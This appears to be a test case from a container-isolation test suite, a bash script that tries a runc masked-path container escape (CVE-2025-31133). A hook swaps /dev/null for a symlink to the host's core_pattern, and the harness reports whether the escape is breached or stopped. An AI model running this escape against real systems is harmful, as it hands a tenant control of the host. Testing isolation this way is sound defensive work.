# shellcheck shell=bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# K13: breaks out of a container of the tenant's own runc, which lacks the mends of 2025
# mechanism: runc binds the container's /dev/null over what is masked; a link that took its place meanwhile leads to any file of /proc (CVE-2025-31133; the exchange is done by a hook here, where the original needs luck)
# stopped by: it ends at the tenant's root, to whom the host's settings do not belong
# weakened: the same runc, as root of the host
# needs: docker

attack_image=debian12-docker

# Who is in the container writes back what it reads where the mask should be.
escape='
mkdir -p /k13/rootfs/dev /k13/rootfs/proc /k13/rootfs/bin && cp /attacks/mask /k13/rootfs/bin/ && cd /k13 || exit 3
printf "#!/bin/sh\numount /k13/rootfs/dev/null 2>/dev/null\nexec ln -sf /proc/sys/kernel/core_pattern /k13/rootfs/dev/null\n" >swap
chmod 755 swap
cat >config.json <<EOF
{ "ociVersion": "1.0.2",
  "process": { "terminal": false, "user": { "uid": 0, "gid": 0 }, "cwd": "/", "env": [], "args": [ "/bin/mask", "/proc/keys" ] },
  "root": { "path": "rootfs" },
  "hooks": { "createContainer": [ { "path": "/k13/swap" } ] },
  "mounts": [ { "destination": "/proc", "type": "proc", "source": "proc" }, { "destination": "/dev", "type": "tmpfs", "source": "tmpfs" } ],
  "linux": { "namespaces": [ { "type": "pid" }, { "type": "ipc" }, { "type": "uts" }, { "type": "mount" } ],
             "maskedPaths": [ "/proc/keys" ] } }
EOF
runc --root /run/k13 run k13 2>&1'

attack() {
        local said status=0
        said=$(in_place sh -c "$escape") || status=$?
        echo "$said"
        ((status != 0)) || breached "core_pattern can be written from the container"
        ((status != status_stopped)) || stopped "core_pattern cannot be written from the container"
        # runc opens its /dev/null again before the container has a chance to.
        [[ $said == *"/dev/null: permission denied"* ]] || broken "$said"
        stopped "runc, which opens the link: ${said##*: }"
}

weaken() { raw no-userns no-seccomp; }

cleanup() { in_place rm -rf /k13 /run/k13; }
